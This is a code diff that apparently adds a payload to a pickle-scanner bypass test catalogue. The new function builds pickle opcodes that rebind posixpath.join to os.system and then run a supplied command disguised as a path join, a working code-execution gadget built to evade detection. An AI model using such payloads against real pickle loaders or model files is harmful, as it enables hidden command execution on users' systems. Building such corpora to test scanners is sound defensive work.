@@ -1069,3 +1069,20 @@ add(
     primitives=("builtins.exec",),
     bypass="after-stop",
 )
+
+
+def _build_module_monkeypatch(c: Ctx) -> bytes:
+    a = Asm(2).header().global_("os", "path")  # the posixpath module object
+    a.op(asm.NONE).emit({"join": SYSTEM}).op(asm.TUPLE2, asm.BUILD, asm.POP)  # setattr(posixpath, 'join', os.system)
+    a.global_("posixpath", "join").str(c.cmd).op(asm.TUPLE1, asm.REDUCE, asm.STOP)  # looks like a path join
+    return a.build()
+
+
+add(
+    "op-build-module-monkeypatch",
+    "build-gadget",
+    _build_module_monkeypatch,
+    isolate=True,
+    bypass="build-gadget",
+    notes="BUILD slot-state on a module object rebinds posixpath.join to os.system; the REDUCE names posixpath.join",
+)
